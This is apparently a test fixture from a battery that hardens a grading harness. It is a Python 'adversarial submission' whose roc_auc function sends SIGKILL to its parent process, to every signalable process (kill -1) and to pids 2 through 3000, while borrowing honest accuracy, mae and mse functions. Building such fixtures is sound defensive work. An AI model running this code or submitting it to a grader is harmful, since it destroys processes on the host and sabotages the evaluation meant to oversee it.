# ruff: noqa
"""Adversarial submission 18_kill_grader: tries to kill the grader: its parent, every process it can signal (kill -1), and pids 2-3000.

Honest part: accuracy, mae, mse. Everything else is missing or hostile.
"""

from __future__ import annotations

# the honest part: unchanged reference code, copied in as _given.py when the battery runs
from ._given import (  # noqa: F401
    AVERAGES,
    _check_1d,
    _check_pair,
    _check_binary,
    _check_retrieval,
    _check_k,
    accuracy,
    mae,
    mse,
)

import numpy as np


# ----------------------------------------------------------------------------- hostile part
import os
import signal


def roc_auc(y_true, y_score):
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    for pid in range(2, 3000):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0.0
